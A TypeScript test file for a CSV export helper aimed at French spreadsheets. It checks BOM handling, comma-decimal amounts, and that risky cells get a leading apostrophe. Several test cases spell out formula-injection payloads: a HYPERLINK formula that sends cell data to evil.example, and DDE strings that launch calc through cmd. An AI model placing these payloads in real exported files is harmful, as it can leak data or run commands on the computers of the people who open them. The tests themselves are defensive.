import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvAmount, csvFile, csvText } from './csv.ts';

const read = (text: string): string[][] => parse(text, { delimiter: ';', bom: true });

test('a French spreadsheet reads the file as it is', () => {
  const rows = [
    ['Entreprise', 'Montant'],
    ['Mairie d’Ajaccio ; « service » "eau"\nrez-de-chaussée', csvAmount(145_700)],
  ];
  const file = csvFile(rows);
  expect(file.startsWith('\ufeffEntreprise;Montant\r\n')).toBe(true);
  expect(read(file)).toEqual(rows);
});

test.each([
  [0, '0,00'],
  [5, '0,05'],
  [145_700, '1457,00'],
  [-49_440, '-494,40'],
])('%i cents are %s', (cents, amount) => {
  expect(csvAmount(cents)).toBe(amount);
  expect(csvFile([[amount]])).toBe(`\ufeff${amount}\r\n`);
});

test.each([
  ...['=HYPERLINK("https://evil.example?"&A1;"ouvrir")', '+33 4 95 10 00 00', "-2+3+cmd|' /C calc'!A0"],
  ...['@SUM(1+9)*cmd', '\u00a0=1+1', '|calc', '\ufeff=1+1', '＝1+1', '-1,5'],
])('no spreadsheet runs %j', (text) => {
  const [[shown = '']] = read(csvFile([[text]])) as [[string]];
  expect(shown).toBe(`'${text}`);
});

test.each([
  ["B,=cmd|' /C calc'!A0,y", "B,'=cmd|' /C calc'!A0,y"],
  ['\t=1+1', "'\t'=1+1"],
  ['A; @SUM(1+9)', "A;' @SUM(1+9)"],
  ['A","=1+1,', 'A",\'"=1+1,'],
  ['3, rue de la Paix - 2e étage', '3, rue de la Paix - 2e étage'],
])('a spreadsheet that separates cells elsewhere too runs nothing of %j', (text, expected) =>
  expect(read(csvFile([[text]]))).toEqual([[expected]]),
);

test.each([
  ...['0000123456', '1/2', '12E3', '14 JUILLET', '1-août', 'OCT4', '10:30 PM', '5%', '5 €', '$5', "1'234", 'VRAI'],
  '#N/A',
])('%j stays a text behind an apostrophe', (text) => expect(csvText(text)).toBe(`'${text}`));

test.each(['', 'Le 14 Juillet', '14 Juillet SARL', 'Aux 100 % naturels', '5 à 7', '12 rue Fesch, 20000 Ajaccio'])(
  '%j, which is no number, stays as it was typed',
  (text) => expect(csvText(text)).toBe(text),
);
